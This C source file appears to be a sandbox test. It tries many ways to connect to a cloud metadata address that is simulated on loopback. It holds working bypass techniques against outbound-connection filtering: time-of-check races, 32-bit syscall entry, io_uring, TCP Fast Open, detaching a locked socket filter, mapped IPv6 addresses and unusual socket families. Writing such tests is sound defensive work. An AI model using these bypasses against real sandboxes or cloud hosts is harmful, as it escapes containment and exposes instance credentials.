// Connects to cloud metadata, played on loopback, by every way that there is. Arguments: the port, and `open` where it is permitted, or `plainly` to leave out what deceives a supervisor.
#include "../programs/attack.h"
#include <arpa/inet.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <time.h>

#define METADATA "169.254.169.254"
#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif

static int port;

static struct sockaddr_in at(const char *address, int number) {
    struct sockaddr_in in = { .sin_family = AF_INET, .sin_port = htons(number) };
    inet_pton(AF_INET, address, &in.sin_addr);
    return in;
}

static struct sockaddr_in6 at6(const char *address, int number) {
    struct sockaddr_in6 in = { .sin6_family = AF_INET6, .sin6_port = htons(number) };
    inet_pton(AF_INET6, address, &in.sin6_addr);
    return in;
}

// What the server says within 300 ms; it says `metadata` to whoever comes.
static int hears(int fd) {
    char buffer[64];
    struct pollfd polled = { .fd = fd, .events = POLLIN };
    return poll(&polled, 1, 300) == 1 && recv(fd, buffer, sizeof buffer, MSG_DONTWAIT) > 0;
}

static void attack(const char *how, int fd) {
    if (fd >= 0 && hears(fd))
        REACHED("metadata by %s", how);
    if (fd >= 0)
        close(fd);
}

static int try(int fd, const void *address, socklen_t size) {
    if (fd >= 0 && connect(fd, address, size) != 0 && errno != EINPROGRESS) {
        close(fd);
        return -1;
    }
    return fd;
}

static int tcp(int family) {
    return socket(family, SOCK_STREAM | SOCK_NONBLOCK, 0);
}

// What is judged is changed before it is used: one thread writes the harmless and the other value over it, over and over, while another connects.
static struct sockaddr_in swapped;
static volatile int racing;

static void *swap_addresses(void *unused) {
    in_addr_t good = inet_addr("127.0.0.1"), bad = inet_addr(METADATA);
    for (unsigned i = 0; racing; i++)
        *(volatile in_addr_t *)&swapped.sin_addr.s_addr = i / 64 % 2 ? bad : good;
    return unused;
}

static void *swap_families(void *unused) {
    for (unsigned i = 0; racing; i++)
        *(volatile sa_family_t *)&swapped.sin_family = i / 64 % 2 ? AF_INET : AF_UNIX;
    return unused;
}

static int leads_to_metadata(int fd) {
    struct sockaddr_in peer = { 0 };
    socklen_t size = sizeof peer;
    return getpeername(fd, (void *)&peer, &size) == 0 && peer.sin_addr.s_addr == inet_addr(METADATA);
}

static void race(const char *how, void *(*swap)(void *), const char *address) {
    pthread_t thread;
    swapped = at(address, port);
    racing = 1;
    pthread_create(&thread, NULL, swap, NULL);
    for (time_t end = time(NULL) + 3; racing && time(NULL) < end;) {
        int fd = tcp(AF_INET);
        connect(fd, (void *)&swapped, sizeof swapped);
        if (leads_to_metadata(fd)) {
            REACHED("metadata by a race of %s", how);
            racing = 0;
        }
        close(fd);
    }
    racing = 0;
    pthread_join(thread, NULL);
}

#ifdef __x86_64__
static long call32(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c), "S"(0), "D"(0) : "memory", "r8", "r9", "r10", "r11");
    return result;
}

static void thirty_two_bits(void) {
    if (fork() == 0) {
        struct sockaddr_in *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
        *low = at(METADATA, port);
        int fd = (int)call32(359 /* socket */, AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        call32(362 /* connect */, fd, (long)low, sizeof *low);
        attack("the 32-bit entrance", fd);
        _exit(0);
    }
    wait(NULL);
}
#else
static void thirty_two_bits(void) { }
#endif

static void ring(void) {
    struct io_uring_params parameters = { 0 };
    int fd = (int)syscall(SYS_io_uring_setup, 4, &parameters);
    if (fd >= 0 || errno != ENOSYS)
        REACHED("io_uring: %m");
}

static void fast_open(void) {
    struct sockaddr_in target = at(METADATA, port);
    int fd = tcp(AF_INET);
    sendto(fd, "GET", 3, MSG_FASTOPEN, (void *)&target, sizeof target);
    attack("MSG_FASTOPEN", fd);
    fd = tcp(AF_INET);
    struct iovec text = { "GET", 3 };
    struct mmsghdr message = { .msg_hdr = { .msg_name = &target, .msg_namelen = sizeof target, .msg_iov = &text, .msg_iovlen = 1 } };
    sendmmsg(fd, &message, 1, MSG_FASTOPEN);
    attack("sendmmsg", fd);
    fd = tcp(AF_INET);
    int on = 1;
    setsockopt(fd, IPPROTO_TCP, 30 /* TCP_FASTOPEN_CONNECT */, &on, sizeof on);
    connect(fd, (void *)&target, 100);
    send(fd, "GET", 3, 0);
    attack("TCP_FASTOPEN_CONNECT", fd);
}

// What keeps the answers off cannot be taken off.
static void unlock(void) {
    struct { unsigned short code; unsigned char jt, jf; unsigned k; } keep = { 6, 0, 0, 0xffffffff };
    struct { unsigned short length; void *program; } filter = { 1, &keep };
    int off = 0, fd = tcp(AF_INET);
    setsockopt(fd, SOL_SOCKET, 44 /* SO_LOCK_FILTER */, &off, sizeof off);
    setsockopt(fd, SOL_SOCKET, 27 /* SO_DETACH_FILTER */, &off, sizeof off);
    setsockopt(fd, SOL_SOCKET, 26 /* SO_ATTACH_FILTER */, &filter, sizeof filter);
    struct sockaddr_in target = at(METADATA, port);
    attack("another filter", try(fd, &target, 100));
}

// A socket that was accepted, and then taken apart and connected anew.
static void accepted(void) {
    struct sockaddr_in here = at("127.0.0.1", 0), target = at(METADATA, port);
    socklen_t size = sizeof here;
    int listener = socket(AF_INET, SOCK_STREAM, 0), client = socket(AF_INET, SOCK_STREAM, 0);
    bind(listener, (void *)&here, sizeof here);
    listen(listener, 1);
    getsockname(listener, (void *)&here, &size);
    connect(client, (void *)&here, sizeof here);
    int fd = accept4(listener, NULL, NULL, SOCK_NONBLOCK);
    struct sockaddr nothing = { .sa_family = AF_UNSPEC };
    connect(fd, &nothing, sizeof nothing);
    attack("an accepted socket", try(fd, &target, 100));
    close(client);
    close(listener);
}

int main(int count, char **arguments) {
    port = atoi(arguments[1]);
    signal(SIGPIPE, SIG_IGN);
    struct sockaddr_in target = at(METADATA, port);
    struct sockaddr_in6 mapped = at6("::ffff:" METADATA, port), six = at6("fd00:ec2::254", port);
    attack("connect", try(tcp(AF_INET), &target, sizeof target));
    if (count > 2 && !strcmp(arguments[2], "open"))
        return over();
    int fd = tcp(AF_INET);
    if (connect(fd, (void *)&target, sizeof target) == 0 || errno != EACCES)
        REACHED("no clear refusal: %m");
    attack("connect again", try(fd, &target, 100));
    attack("a mapped address", try(tcp(AF_INET6), &mapped, sizeof mapped));
    attack("a mapped address of odd size", try(tcp(AF_INET6), &mapped, 60));
    attack("version 6", try(tcp(AF_INET6), &six, sizeof six));
    attack("version 6 of odd size", try(tcp(AF_INET6), &six, 60));
    attack("MPTCP", try(socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, IPPROTO_MPTCP), &target, 100));
    attack("SMC", try(socket(43 /* AF_SMC */, SOCK_STREAM | SOCK_NONBLOCK, 0), &target, 100));
    attack("SCTP", try(socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 132), &target, 100));
    fd = tcp(AF_INET);
    attack("a duplicate", try(dup(fd), &target, 100));
    if (socket(AF_INET, SOCK_RAW, IPPROTO_TCP) >= 0)
        REACHED("a raw socket");
    if (socket(AF_PACKET, SOCK_RAW, 0) >= 0)
        REACHED("a packet socket");
    if (unshare(CLONE_NEWUSER | CLONE_NEWNET) == 0) {
        fd = tcp(AF_INET);
        attack("namespaces", try(fd, &target, 100));
    }
    if (count > 2)
        return over();
    race("addresses", swap_addresses, "127.0.0.1");
    race("families", swap_families, METADATA);
    thirty_two_bits();
    ring();
    fast_open();
    unlock();
    accepted();
    struct sockaddr_in dns = at(METADATA, 53);
    fd = try(socket(AF_INET, SOCK_STREAM, 0), &dns, sizeof dns);
    if (fd < 0 || !hears(fd))
        printf("no DNS: %m\n");
    return over();
}
